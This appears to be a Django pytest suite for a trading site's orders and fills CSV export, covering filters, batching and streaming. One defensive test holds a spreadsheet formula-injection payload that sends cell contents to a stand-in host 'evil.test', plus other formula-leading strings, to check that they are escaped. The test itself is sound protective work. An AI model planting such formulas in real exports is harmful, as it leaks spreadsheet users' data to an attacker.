"""Orders and fills as CSV files."""

import csv
import io
from collections.abc import Callable
from datetime import timedelta
from decimal import Decimal
from typing import Any

import pytest
from asgiref.sync import async_to_sync
from django.contrib.auth.models import AbstractBaseUser
from django.db import connection
from django.db.models import QuerySet
from django.test import AsyncClient
from django.test.utils import CaptureQueriesContext
from hypothesis import given
from hypothesis import strategies as st
from rest_framework.test import APIClient

from market.models import BarSeries
from portfolio.models import Account, Fill, Order
from tradingsite.common.api import csv_export
from tradingsite.common.api.csv_export import cell
from tradingsite.common.clock import utcnow

Clients = Callable[..., APIClient]
Place = Callable[..., Order]


def rows(answer: Any) -> list[dict[str, str]]:
    assert answer.status_code == 200
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(b"".join(answer).decode(), newline="")))


@pytest.fixture
def many(acme: BarSeries, account: Account) -> list[Order]:
    """Seven orders, of which pairs were made at the same moment; the even ones are buys and denied."""
    now = utcnow()
    made = [
        Order(
            client_order_id=f"order {number}", account=account, instrument=acme.instrument, mode="paper",
            side="sell" if number % 2 else "buy", type="market", quantity=Decimal(number + 1), source="x",
            timeframe="1d", adjustment="none", status="filled" if number % 2 else "denied",
            created_at=now - timedelta(days=number // 2),
        )
        for number in range(7)
    ]  # fmt: skip
    return Order.objects.bulk_create(made)


def test_the_file_says_what_the_list_says(acme: BarSeries, place: Place, api: Clients) -> None:
    place()
    place(client_order_id="two", order_type="limit", limit_price=Decimal(50))
    viewer = api("viewer")
    for name in ("orders", "fills"):
        listed = viewer.get(f"/api/portfolio/{name}").json()["results"]
        answer = viewer.get(f"/api/portfolio/{name}/export")
        assert answer["Content-Disposition"] == f'attachment; filename="{name}.csv"'
        in_file = rows(answer)
        assert [list(row) for row in in_file] == [list(row) for row in listed]
        assert in_file == [{key: "" if value is None else str(value) for key, value in row.items()} for row in listed]


@pytest.mark.parametrize(
    "query",
    [
        "",
        "?status=denied",
        "?side=sell",
        "?symbol=ACME",
        "?symbol=NOPE",
        "?client_order_id=order 3",
        "?created_after={}",
    ],
)
def test_the_file_takes_the_filters_of_the_list(many: list[Order], api: Clients, query: str) -> None:
    query = query.format((utcnow() - timedelta(days=1, hours=1)).strftime("%Y-%m-%dT%H:%M:%SZ"))
    listed = api("viewer").get(f"/api/portfolio/orders{query}").json()["results"]
    in_file = rows(api("viewer").get(f"/api/portfolio/orders/export{query}"))
    assert [row["id"] for row in in_file] == [row["id"] for row in listed]


@pytest.mark.parametrize("query", ["?colour=red", "?status=asleep", "?cursor=x", "?page_size=5"])
def test_a_wrong_filter_is_a_400_as_in_the_list(many: list[Order], api: Clients, query: str) -> None:
    answer = api("viewer").get(f"/api/portfolio/orders/export{query}")
    assert answer.status_code == 400
    assert answer["Content-Type"] == "application/problem+json"


@pytest.mark.parametrize("size", [1, 2, 3, 7, 8])
def test_every_order_is_in_the_file_once_whatever_the_size_of_a_batch(
    many: list[Order], api: Clients, monkeypatch: pytest.MonkeyPatch, size: int
) -> None:
    monkeypatch.setattr(csv_export, "BATCH", size)
    in_file = rows(api("viewer").get("/api/portfolio/orders/export"))
    expected = sorted(many, key=lambda order: (order.created_at, order.pk), reverse=True)
    assert [row["client_order_id"] for row in in_file] == [order.client_order_id for order in expected]


def test_a_long_list_is_read_while_it_is_sent_one_batch_at_a_time(
    many: list[Order], api: Clients, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(csv_export, "BATCH", 2)
    with CaptureQueriesContext(connection) as before_sending:
        answer = api("viewer").get("/api/portfolio/orders/export")
    selects = [query["sql"] for query in before_sending if '"orders"' in query["sql"]]
    assert len(selects) == 1, "only the first batch is read before the answer begins"
    with CaptureQueriesContext(connection) as while_sending:
        chunks = list(answer)
    assert len(while_sending) == 3
    assert [chunk.count(b"\r\n") for chunk in chunks] == [1, 2, 2, 2, 1]


def test_an_asgi_server_gets_the_file_in_the_same_pieces(
    many: list[Order], trader: AbstractBaseUser, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(csv_export, "BATCH", 2)

    async def call() -> list[bytes]:
        client = AsyncClient()
        await client.aforce_login(trader)
        answer = await client.get("/api/portfolio/orders/export")
        assert answer.is_async, "a plain iterator would be read to its end before anything is sent"
        return [chunk async for chunk in answer]

    chunks = async_to_sync(call)()
    assert [chunk.count(b"\r\n") for chunk in chunks] == [1, 2, 2, 2, 1]


def test_what_a_stranger_wrote_is_no_formula(acme: BarSeries, place: Place, api: Clients) -> None:
    order = place()
    harmful = '=HYPERLINK("http://evil.test/?"&A1,"click, please")'
    Order.objects.filter(pk=order.pk).update(client_order_id="@SUM(1)", detail=harmful, venue_order_id="+1")
    QuerySet(Fill).update(venue_fill_id="\t=1")  # past the ledger, which never changes a fill
    [row] = rows(api("viewer").get("/api/portfolio/orders/export"))
    assert (row["client_order_id"], row["venue_order_id"]) == ("'@SUM(1)", "'+1")
    assert row["detail"] == f"'{harmful}"
    [fill] = rows(api("viewer").get("/api/portfolio/fills/export"))
    assert fill["venue_fill_id"] == "'\t=1"


@given(st.text(max_size=20))
def test_no_text_begins_like_a_formula(text: str) -> None:
    written = cell(text)
    assert not written.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))
    assert written in (text, f"'{text}")


def test_a_negative_number_stays_a_number() -> None:
    assert cell(Decimal("-1.50")) == "-1.5"


def test_a_browser_gets_the_file_whatever_it_says_it_accepts(many: list[Order], api: Clients) -> None:
    for accept in ("text/html,application/xhtml+xml", "application/json", "*/*"):
        assert len(rows(api("viewer").get("/api/portfolio/orders/export", headers={"Accept": accept}))) == 7
